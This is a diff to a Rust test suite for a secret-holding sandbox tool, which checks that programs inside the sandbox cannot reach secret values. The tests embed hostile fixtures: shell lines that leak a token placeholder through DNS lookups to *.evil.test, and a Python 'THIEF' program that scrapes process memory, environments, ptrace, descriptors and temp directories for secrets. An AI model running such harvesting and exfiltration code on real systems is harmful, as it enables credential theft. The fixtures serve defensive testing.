@@ -91,7 +91,7 @@ fn a_client_that_pins_or_ignores_the_list_is_refused_with_the_reason() {
                 "{log}"
             );
         }
-        assert_eq!(world.good.count(), before, "{user:?}");
+        assert_eq!(world.good.all()[before..].concat(), "", "{user:?}: no request");
     }
 }
 
@@ -105,9 +105,9 @@ fn a_placeholder_in_a_name_is_refused_and_asked_of_no_server() {
     for user in users() {
         let stage = Stage::new(*user);
         let caps = ["net:connect:*.evil.test", "exec:spawn:/usr/bin/getent", "exec:spawn:/usr/bin/tr"];
-        let script = "getent ahostsv4 plain.evil.test > /dev/null && echo found; getent ahostsv4 $TOKEN.evil.test; \
-                      getent ahostsv4 $(echo $TOKEN | tr a-z A-Z | tr _ -).evil.test; \
-                      getent ahostsv4 ${TOKEN:0:20}.${TOKEN:20}.evil.test; echo end";
+        let script = "getent hosts plain.evil.test > /dev/null && echo found; getent hosts $TOKEN.evil.test; \
+                      getent hosts $(echo $TOKEN | tr a-z A-Z | tr _ -).evil.test; \
+                      getent hosts ${TOKEN:0:20}.${TOKEN:20}.evil.test; echo end";
         let (out, log) = said(&world, &stage, &caps, script);
         assert!(out.starts_with("found\n") && out.ends_with("end\n"), "{user:?} {out} {log}");
         assert!(log.contains("the placeholder of a secret was sent where its value is not used"), "{log}");
@@ -128,10 +128,120 @@ fn nothing_of_what_holds_secrets_is_reachable_from_inside() {
         let stage = Stage::new(*user);
         let caps = ["exec:spawn:/usr/bin/ls", "exec:spawn:/usr/bin/cat", "exec:spawn:/usr/bin/tr"];
         let script = "ls -l /proc/self/fd /proc/1/fd 2>&1; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done; \
-                      cat /proc/net/unix 2>&1; env";
+                      cat /proc/net/unix 2>&1; echo TOKEN=$TOKEN";
         let (out, log) = said(&world, &stage, &caps, script);
         assert!(out.contains("TOKEN="), "{out} {log}");
         assert!(!out.contains("socket:") && !out.contains("hold") && !out.contains(VALUE), "{user:?} {out}");
+    }
+}
+
+/// What a program tries that was told everything about how values are kept: whom it sees, their memory, their environment, their
+/// descriptors, a debugger, core files, sockets of every kind, and a process of its own that is to hold values.
+const THIEF: &str = r#"
+import ctypes, glob, os, socket, subprocess, sys
+seen = []
+def look(what, read):
+    try:
+        seen.append((what, read()))
+    except Exception as fault:
+        seen.append((what, repr(fault)))
+def memory(pid):
+    found = b""
+    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as file:
+        for line in maps:
+            start, end = (int(part, 16) for part in line.split()[0].split("-"))
+            if line.split()[1].startswith("rw"):
+                try:
+                    file.seek(start)
+                    found += file.read(end - start)
+                except OSError:
+                    pass
+    return found
+libc = ctypes.CDLL(None, use_errno=True)
+for path in glob.glob("/proc/[0-9]*"):
+    pid = int(path[6:])
+    for name in ("cmdline", "environ", "maps"):
+        look(path + "/" + name, lambda: open(f"{path}/{name}", "rb").read())
+    look(path + "/fd", lambda: [os.readlink(one) for one in glob.glob(path + "/fd/*")])
+    if pid != os.getpid():
+        look(path + "/mem", lambda: memory(pid))
+        look(f"ptrace {pid}", lambda: (libc.ptrace(16, pid, 0, 0), ctypes.get_errno()))
+        buffer = ctypes.create_string_buffer(65536)
+        look(f"pidfd {pid}", lambda: os.pidfd_open(pid))
+look("core", lambda: open("/proc/sys/kernel/core_pattern").read())
+look("unix", lambda: open("/proc/net/unix").read())
+for name in glob.glob("/run/**", recursive=True) + glob.glob("/tmp/**", recursive=True) + glob.glob("/dev/shm/**", recursive=True):
+    look(name, lambda: open(name, "rb").read(65536))
+for argv in (["secret", "hold"], ["secret", "check", "--secret", "TOKEN=env:THE_VALUE"], ["secret", "check", "--secret", "TOKEN=env:TOKEN"]):
+    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET) if hasattr(socket, "SOCK_SEQPACKET") else (None, None)
+    def hold():
+        child = subprocess.Popen([sys.argv[1], *argv], stdin=theirs, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+        ours.send(b"L")
+        ours.close()
+        theirs.close()
+        return child.communicate(timeout=20)[0]
+    look(" ".join(argv), hold)
+print(len(seen), "looks", flush=True)
+sys.stdout.buffer.write(repr(seen).encode() + b"".join(what[1] for what in seen if isinstance(what[1], bytes)))
+"#;
+
+#[test]
+fn a_program_that_looks_everywhere_finds_nothing_of_a_value() {
+    if !in_world(test_name!()) {
+        return;
+    }
+    let (world, traces) = (World::new(), Traces::of(&[VALUE]));
+    for user in users() {
+        let stage = Stage::new(*user);
+        let program = stage.path("bailiwick").display().to_string();
+        let spawns = format!("exec:spawn:{program}");
+        let mut run = world.run(&stage, &[&spawns, "exec:spawn:/usr/bin/python3"], &["--"]);
+        let output = run.args(["/usr/bin/python3", "-c", THIEF, &program]).output().unwrap();
+        let said = text(&output.stdout);
+        let looks = said.split(' ').next().unwrap_or_default().parse::<usize>().unwrap_or(0);
+        assert!(
+            looks > 10 && said.contains("TOKEN=") && said.contains("secret hold"),
+            "{user:?} {looks} {output:?}"
+        );
+        assert_eq!(traces.in_bytes(&output.stdout), 0, "{user:?} {said}");
+        assert_eq!(traces.in_bytes(&output.stderr), 0, "{user:?} {output:?}");
+    }
+    // The measure itself.
+    assert!(traces.in_bytes(format!("x{VALUE}x").as_bytes()) > 0);
+}
+
+#[test]
+fn without_the_process_that_holds_values_nothing_reaches_their_hosts() {
+    if !in_world(test_name!()) {
+        return;
+    }
+    let world = World::new();
+    for user in users() {
+        let stage = Stage::new(*user);
+        let mut run = world.run(&stage, &["exec:spawn:/usr/bin/curl"], &["--"]);
+        let script = format!("{ASK}; echo first; read line; {ASK}; echo second");
+        run.args(["/usr/bin/bash", "-c", &script])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        let mut child = run.spawn().unwrap();
+        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines().map_while(Result::ok);
+        let first: Vec<String> = lines.by_ref().take_while(|line| line != "first").collect();
+        assert!(first.join("\n").contains("the answer"), "{user:?} {first:?}");
+        let reached = world.good.count();
+        assert!(world.good.all().concat().contains(VALUE));
+        let (outside, _) = super::traces::outside_and_inside(child.id());
+        let words = |pid: &u32| std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+        let holder = outside.iter().find(|pid| words(pid).contains("secret\0hold")).expect("it runs");
+        let holder = rustix::process::Pid::from_raw(i32::try_from(*holder).unwrap()).unwrap();
+        rustix::process::kill_process(holder, rustix::process::Signal::KILL).unwrap();
+        writeln!(child.stdin.take().unwrap(), "go on").unwrap();
+        let second: Vec<String> = lines.by_ref().take_while(|line| line != "second").collect();
+        let output = child.wait_with_output().unwrap();
+        let log = text(&output.stderr);
+        assert!(!second.join("\n").contains("the answer"), "{user:?} {second:?}");
+        assert!(log.contains("the process that holds the secrets cannot be asked"), "{log}");
+        assert_eq!(world.good.all()[reached..].concat(), "", "{user:?}: no request");
     }
 }
 
@@ -222,7 +332,7 @@ fn each_call_of_serve_uses_a_secret_and_no_sandbox_of_it_has_the_value() {
         assert_eq!(placeholders.len(), 3, "fresh for each sandbox: {placeholders:?}");
         let heard = world.good.all()[before..].join("\n");
         assert!(heard.contains(VALUE), "{heard}");
-        served.say(&Served::bash(9, &format!("{ASK}; /usr/bin/sleep 30")));
+        served.say(&Served::bash(9, &format!("{ASK}; /usr/bin/sleep 30; :")));
         let number = |pid: u32| std::fs::read_link(format!("/proc/{pid}/ns/pid")).ok();
         let own = number(served.0.id());
         let mut inside = Vec::new();
@@ -262,7 +372,8 @@ fn a_secret_check_says_which_are_usable_and_never_what_they_are() {
             .args(words)
             .env_clear()
             .env("HOME", home.path())
-            .env("PATH", "/usr/bin:/bin")
+            .env("PATH", format!("{}:/usr/bin:/bin", home.path().join("programs").display()))
+            .env("CREDENTIALS_DIRECTORY", home.path())
             .env("MINE", VALUE);
         let output = command.output().unwrap();
         let said = text(&output.stdout) + &text(&output.stderr);
@@ -278,6 +389,30 @@ fn a_secret_check_says_which_are_usable_and_never_what_they_are() {
     let usable: Vec<bool> =
         answer["secrets"].as_array().unwrap().iter().map(|one| one["usable"] == true).collect();
     assert_eq!(usable, [true, false], "{said}");
+    // The other sources, an OAuth client's own secret, and a value that a manifest has to allow.
+    let programs = home.path().join("programs");
+    std::fs::create_dir(&programs).unwrap();
+    let tool = programs.join("secret-tool");
+    let lines = format!("#!/bin/sh\ntest \"$*\" = 'lookup service brave username me' && echo {VALUE}\n");
+    std::fs::write(&tool, lines).unwrap();
+    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    std::fs::write(home.path().join("short"), "0123456789").unwrap();
+    let short = format!("GOOD=file:{}/short", home.path().display());
+    std::fs::write(
+        config.join("config.toml"),
+        "[secrets.TOKEN]\nsource = 'keyring:brave/me'\n[secrets.TOKEN.oauth]\ntoken_url = 'https://login.test/'\n\
+         grant = 'refresh-token'\nclient_id = 'c'\nclient_secret = 'systemd:client'\n",
+    )
+    .unwrap();
+    let more = ["secret", "check", "--secret", &short];
+    let (code, said) = run(&more);
+    assert!(code == 1 && said.contains("`client_secret`: `systemd:client` was tried"), "{said}");
+    assert!(said.contains("fewer than 16 characters"), "{said}");
+    std::fs::write(home.path().join("client"), VALUE).unwrap();
+    let (code, said) = run(&more);
+    assert!(code == 0 && !said.contains("tried"), "{said}");
+    let (code, said) = run(&["secret", "check", "--secret", "OTHER=keyring:brave/you"]);
+    assert!(code == 1 && said.contains("`keyring:brave/you` was tried"), "{said}");
     let (code, said) = run(&["secret", "check", "--secret", &format!("WRONG={VALUE}")]);
     assert!(code == 2 && said.contains("env:VARIABLE"), "{said}");
 }
